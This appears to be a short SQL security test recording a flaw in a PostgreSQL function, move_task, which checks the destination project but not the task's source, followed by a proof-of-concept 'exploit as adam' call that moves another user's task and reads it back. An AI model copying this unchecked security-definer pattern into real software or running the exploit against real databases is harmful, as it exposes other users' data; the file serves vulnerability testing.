-- channel: function
-- object: public.move_task
-- says: The function checks where the task goes, not where it comes from.
create or replace function public.move_task(p_task uuid, p_project uuid)
returns void
language plpgsql security definer
set search_path = ''
as $$
begin
    if not exists (select where p_project in (select app.working_project_ids())) then
        raise exception 'not found' using errcode = 'PT404';
    end if;
    update public.tasks set project_id = p_project, parent_id = null where id = p_task;
end
$$;
-- exploit as adam
select public.move_task(
    'b9000000-0000-4000-8000-000000000001', 'a8000000-0000-4000-8000-000000000001'
);
select from public.tasks where title = 'Cut the film';
-- leaks when rows
